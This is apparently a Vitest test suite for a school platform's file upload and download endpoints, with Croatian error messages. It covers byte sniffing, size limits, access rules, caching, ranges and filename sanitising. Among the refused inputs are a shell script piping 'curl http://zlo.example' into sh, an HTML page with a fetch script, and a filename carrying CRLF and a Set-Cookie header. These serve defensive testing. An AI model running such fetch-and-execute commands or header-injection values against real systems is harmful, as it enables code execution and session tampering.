import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildProfileWorld,
  type ProfileRole,
  type ProfileWorld,
} from '../../../test/profile-factories.ts';
import { bearer } from '../../../test/http.ts';
import { BOUNDARY, multipart } from '../../../test/picture-requests.ts';
import {
  filesOnDisk,
  samplePdf,
  sampleFiles,
  SMALL_LIMIT,
  testUploadRoutes,
} from '../../../test/file-uploads.ts';
import { createTestApp, type TestApp } from '../../../test/test-app.ts';

let t: TestApp;
let w: ProfileWorld;
beforeAll(async () => {
  t = await createTestApp({ extraRoutes: testUploadRoutes });
  w = await buildProfileWorld(t, 'files');
  // Document files are read by whom their document is shared with (the documents module's rule).
});
afterAll(() => t.close());

const upload = (role: ProfileRole, body: Buffer) =>
  t.app.inject({
    method: 'POST',
    url: '/api/test/upload',
    headers: {
      ...bearer(w.tokens[role]),
      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
    },
    payload: body,
  });
const one = (filename: string, data: Buffer, type = 'application/octet-stream') =>
  multipart([{ field: 'file', filename, type, data }]);
const download = (role: ProfileRole | null, id: number, headers: Record<string, string> = {}) =>
  t.app.inject({
    method: 'GET',
    url: `/api/files/${id}`,
    headers: { ...(role ? bearer(w.tokens[role]) : {}), ...headers },
  });
const countRows = async () =>
  Number(
    (
      await t.database.db
        .selectFrom('files')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

describe('uploads are judged by their bytes', () => {
  it('stores each supported type and serves the same bytes with its type', async () => {
    for (const [name, data, type] of await sampleFiles()) {
      const res = await upload('student', one(name, data));
      expect(res.statusCode, name).toBe(200);
      const meta = res.json();
      expect(meta).toMatchObject({ contentType: type, size: data.length, name });
      const back = await download('student', meta.id);
      expect(back.statusCode).toBe(200);
      expect(back.rawPayload.equals(data), name).toBe(true);
      expect(String(back.headers['content-type']).split(';')[0]).toBe(type);
      expect(back.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  const refused: [string, Buffer, string, number, string][] = [
    [
      'a shell script named .pdf',
      Buffer.from('#!/bin/sh\ncurl http://zlo.example | sh\n'),
      'racun.pdf',
      400,
      'Sadržaj datoteke ne odgovara njezinu nazivu. Provjerite je li datoteka ispravna.',
    ],
    [
      'an HTML page named .pdf',
      Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/user")</script></body></html>'),
      'racun.pdf',
      400,
      'Nepodržana vrsta datoteke. Dozvoljene vrste su: JPEG, PNG, GIF, WebP, PDF, MP3, OGG, WAV, M4A, MusicXML, MusicXML (.mxl) i tekst (TXT, ABC).',
    ],
    [
      'a PDF named .mp3',
      samplePdf(),
      'pjesma.mp3',
      400,
      'Sadržaj datoteke ne odgovara njezinu nazivu. Provjerite je li datoteka ispravna.',
    ],
    [
      'text under an unknown extension',
      Buffer.from('echo hi'),
      'alat.exe',
      400,
      'Sadržaj datoteke ne odgovara njezinu nazivu. Provjerite je li datoteka ispravna.',
    ],
    ['an empty file', Buffer.alloc(0), 'prazno.pdf', 400, 'Datoteka je prazna.'],
    [
      'a file over the limit',
      Buffer.concat([samplePdf(), Buffer.alloc(SMALL_LIMIT, 0x20)]),
      'velik.pdf',
      413,
      'Datoteka je prevelika. Maksimalna veličina je 1 MB.',
    ],
  ];
  it.each(refused)('refuses %s and stores nothing', async (_label, data, name, status, message) => {
    const rows = await countRows();
    const disk = await filesOnDisk(t.app);
    const res = await upload('student', one(name, data));
    expect(res.statusCode).toBe(status);
    expect(res.json().message).toBe(message);
    expect(await countRows()).toBe(rows);
    expect(await filesOnDisk(t.app)).toEqual(disk);
  });

  it('takes exactly the limit', async () => {
    const pdf = samplePdf();
    const data = Buffer.concat([pdf, Buffer.alloc(SMALL_LIMIT - pdf.length, 0x20)]);
    expect((await upload('student', one('tocno.pdf', data))).statusCode).toBe(200);
  });

  it('refuses no file, a file in another field and two files, keeping nothing', async () => {
    const rows = await countRows();
    const disk = await filesOnDisk(t.app);
    const pdf = samplePdf();
    for (const body of [
      multipart([]),
      multipart([{ field: 'other', filename: 'a.pdf', type: 'application/pdf', data: pdf }]),
      multipart([
        { field: 'file', filename: 'a.pdf', type: 'application/pdf', data: pdf },
        { field: 'file', filename: 'b.pdf', type: 'application/pdf', data: pdf },
      ]),
    ]) {
      const res = await upload('student', body);
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe('Odaberite datoteku za prijenos.');
    }
    await t.app.platform.events.idle();
    expect(await countRows()).toBe(rows);
    expect(await filesOnDisk(t.app)).toEqual(disk);
  });
});

describe('GET /api/files/{id}', () => {
  let pdfId: number;
  const pdf = Buffer.concat([samplePdf(), Buffer.alloc(5000, 0x41)]);
  beforeAll(async () => {
    // As a browser sends `Skladba "Žuta" – čćđ.pdf`: UTF-8, quotes as %22.
    pdfId = (await upload('student', one('Skladba %22Žuta%22 – čćđ.pdf', pdf))).json().id;
  });

  it('lets the owner and whom the purpose’s rule allows read; everyone else gets 404', async () => {
    expect((await download('student', pdfId)).statusCode).toBe(200);
    expect((await download('mentor', pdfId)).statusCode).toBe(404);
    // The student's document holding the file, shared with the mentor.
    const { id: documentId } = await t.database.db
      .insertInto('documents')
      .values({
        schoolId: w.schoolA,
        ownerId: w.users.student.id,
        folderId: null,
        kind: 'file',
        title: 'Skladba',
        url: null,
        fileId: pdfId,
        abc: null,
        visibility: 'shared',
        createdAt: new Date().toISOString(),
        updatedAt: new Date().toISOString(),
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    await t.database.db
      .insertInto('document_shares')
      .values({ documentId, kind: 'user', targetId: w.users.mentor.id })
      .execute();
    expect((await download('mentor', pdfId)).statusCode).toBe(200);
    const sibling = await download('student2', pdfId);
    expect(sibling.statusCode).toBe(404);
    expect(sibling.json().message).toBe('Datoteka nije pronađena.');
    // Another school's admin, even a mentor there: as if it did not exist.
    expect((await download('adminB', pdfId)).statusCode).toBe(404);
    expect((await download('studentB', pdfId)).statusCode).toBe(404);
    expect((await download('student', 99_999_999)).statusCode).toBe(404);
    expect((await download(null, pdfId)).statusCode).toBe(401);
    expect((await download('student', 0)).statusCode).toBe(400);
  });

  it('answers with a strong ETag and 304 while it matches', async () => {
    const res = await download('student', pdfId);
    const etag = String(res.headers.etag);
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);
    expect(res.headers['cache-control']).toBe('private, no-cache');
    expect(res.headers['content-length']).toBe(String(pdf.length));
    const again = await download('student', pdfId, { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    expect(again.headers.etag).toBe(etag);
    expect((await download('student', pdfId, { 'if-none-match': '"x"' })).statusCode).toBe(200);
    // A 304 is no way around the access check.
    expect((await download('adminB', pdfId, { 'if-none-match': etag })).statusCode).toBe(404);
  });

  it('serves byte ranges with 206, and 416 past the end', async () => {
    const res = await download('student', pdfId, { range: 'bytes=5-14' });
    expect(res.statusCode).toBe(206);
    expect(res.headers['content-range']).toBe(`bytes 5-14/${pdf.length}`);
    expect(res.headers['content-length']).toBe('10');
    expect(res.rawPayload.equals(pdf.subarray(5, 15))).toBe(true);
    const tail = await download('student', pdfId, { range: 'bytes=-4' });
    expect(tail.rawPayload.equals(pdf.subarray(-4))).toBe(true);
    const past = await download('student', pdfId, { range: `bytes=${pdf.length}-` });
    expect(past.statusCode).toBe(416);
    expect(past.headers['content-range']).toBe(`bytes */${pdf.length}`);
    expect(past.headers['content-type']).toMatch(/^application\/json/);
    expect(past.json().code).toBe('range_not_satisfiable');
    const stale = await download('student', pdfId, { range: 'bytes=0-1', 'if-range': '"old"' });
    expect(stale.statusCode).toBe(200);
  });

  it('names the file safely in Content-Disposition, inline or as a download', async () => {
    const res = await download('student', pdfId);
    expect(res.headers['content-disposition']).toBe(
      `inline; filename="Skladba _Zuta_ _ ccd.pdf"; ` +
        `filename*=UTF-8''Skladba%20%22%C5%BDuta%22%20%E2%80%93%20%C4%8D%C4%87%C4%91.pdf`,
    );
    const attachment = await t.app.inject({
      method: 'GET',
      url: `/api/files/${pdfId}?download=1`,
      headers: bearer(w.tokens.student),
    });
    expect(String(attachment.headers['content-disposition'])).toMatch(/^attachment; /);
  });

  it('keeps a name made to inject headers inside its header', async () => {
    const file = await t.app.services.files.storeGenerated(samplePdf(), {
      owner: w.users.student.id,
      school: w.schoolA,
      purpose: 'document',
      contentType: 'application/pdf',
      name: 'racun\r\nSet-Cookie: sesija=1\r\n.pdf',
    });
    const res = await download('student', file.id);
    expect(res.headers['set-cookie']).toBeUndefined();
    expect(res.headers['content-disposition']).toBe(
      `inline; filename="racunSet-Cookie: sesija=1.pdf"; filename*=UTF-8''racunSet-Cookie%3A%20sesija%3D1.pdf`,
    );
  });

  it('answers HEAD with the headers only', async () => {
    const res = await t.app.inject({
      method: 'HEAD',
      url: `/api/files/${pdfId}`,
      headers: bearer(w.tokens.student),
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-length']).toBe(String(pdf.length));
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.body).toBe('');
  });

  it('answers a file whose bytes are gone with a plain 500, not a broken download', async () => {
    const file = await t.app.services.files.storeGenerated(samplePdf(), {
      owner: w.users.student.id,
      school: w.schoolA,
      purpose: 'document',
      contentType: 'application/pdf',
    });
    await t.app.platform.storage.remove(String(file.storageKey));
    const res = await download('student', file.id);
    expect(res.statusCode).toBe(500);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.json().code).toBe('internal_error');
  });

  it('sums a school’s bytes per purpose for quotas', async () => {
    const rows = await t.database.db
      .selectFrom('files')
      .select('size')
      .where('schoolId', '=', w.schoolA)
      .where('purpose', '=', 'document')
      .execute();
    const total = rows.reduce((sum, r) => sum + r.size, 0);
    expect(total).toBeGreaterThan(0);
    expect(await t.app.services.files.usage(w.schoolA, ['document'])).toBe(total);
    expect(await t.app.services.files.usage(w.schoolB, ['document'])).toBe(0);
  });

  it('forgets the bytes once a file is removed', async () => {
    const file = await t.app.services.files.storeGenerated(samplePdf(), {
      owner: w.users.student.id,
      school: w.schoolA,
      purpose: 'document',
      contentType: 'application/pdf',
    });
    const key = String(file.storageKey);
    expect(await t.app.platform.storage.exists(key)).toBe(true);
    expect(await t.app.services.files.remove(w.schoolB, file.id)).toBe(false);
    expect(await t.app.services.files.remove(w.schoolA, file.id)).toBe(true);
    expect((await download('student', file.id)).statusCode).toBe(404);
    await expect.poll(() => t.app.platform.storage.exists(key)).toBe(false);
  });
});
